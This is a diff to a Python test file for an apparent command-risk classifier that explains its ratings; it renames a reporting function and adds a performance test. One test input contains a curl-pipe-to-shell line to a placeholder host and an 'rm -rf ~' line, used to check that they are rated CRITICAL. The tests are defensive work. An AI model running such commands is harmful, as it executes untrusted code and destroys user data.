@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+import time
 from dataclasses import replace
 from itertools import combinations
 from typing import TYPE_CHECKING
@@ -104,7 +105,7 @@ def test_every_finding_that_holds_the_class_is_named_once() -> None:
 
 def test_the_terminal_and_the_window_say_it_in_words() -> None:
     one = request("ls\ncurl https://x.example/i.sh | sh\nrm -rf ~\n", Language.SHELL)
-    told = dict(why_words.told(reasons_for(one, weigh(one))))
+    told = dict(why_words.report(reasons_for(one, weigh(one))))
     assert told["Why this class"] == ("CRITICAL because of lines 2 and 3; each place is enough.",)
     held = told["What holds it there"]
     assert "Line 2: curl https://x.example/i.sh | sh" in held
@@ -123,7 +124,7 @@ def test_a_color_that_is_not_the_class_is_explained_too() -> None:
     reasons = reasons_for(one, assessment)
     assert why_words.summary(reasons) == "HIGH: running code is HIGH by itself, whatever is found."
     assert why_words.badge(reasons) == (
-        "The color is that of the worst finding: MEDIUM, because of line 2. Without that, nothing would stand out."
+        "The color is that of the worst finding: MEDIUM, because of line 2. Without that, there would be no findings."
     )
 
 
@@ -203,7 +204,7 @@ def test_what_could_not_be_read_is_not_said_to_be_harmless_otherwise() -> None:
     one = request("print(1\n")
     reasons = reasons_for(one, weigh(one))
     assert reasons.holding[0].unread
-    words = [line for _, lines in why_words.told(reasons) for line in lines]
+    words = [line for _, lines in why_words.report(reasons) for line in lines]
     assert "    If it could be read: HIGH or higher, by what it does." in words
     assert not any(line.startswith("HIGH: without") for line in words)
 
@@ -237,7 +238,7 @@ def test_a_rule_that_notes_no_more_places_says_so() -> None:
     assert MOST_PLACES == MOST_FOR_A_RULE
     many = tuple(finding(line, Level.CRITICAL) for line in range(1, MOST_PLACES + 1))
     assessment = Assessment(Level.CRITICAL, ("Why.",), many, base=Level.HIGH)
-    told = why_words.told(reasons_for(RUN, assessment))
+    told = why_words.report(reasons_for(RUN, assessment))
     assert why_words.CAPPED in told[-1][1][0]
     assert "HIGH: without lines 1, 2, 3, 4, 5, 6 and 14 more." in dict(told)["Why not lower"]
     assert not reasons_for(RUN, replace(assessment, findings=many[1:])).capped
@@ -254,3 +255,13 @@ def test_no_agent_is_told() -> None:
     }
     rooms = {"/".join(path.parts[:2]) for path in readers}
     assert rooms <= {"runner/risk", "runner/commands", "app/why", "app/review", "app/history", "app/chrome"}
+
+
+def test_reasons_for_very_many_findings_are_there_at_once() -> None:
+    """A window waits for them: each finding is compared with few others."""
+    one = request("\n".join(["x"] * 4000))
+    many = tuple(finding(line, Level.HIGH, id=f"a.rule-{line // 20}") for line in range(1, 4001))
+    began = time.process_time()
+    reasons = reasons_for(one, replace(weigh(one), findings=many))
+    assert len(reasons.holding) == 4000
+    assert time.process_time() - began < 1
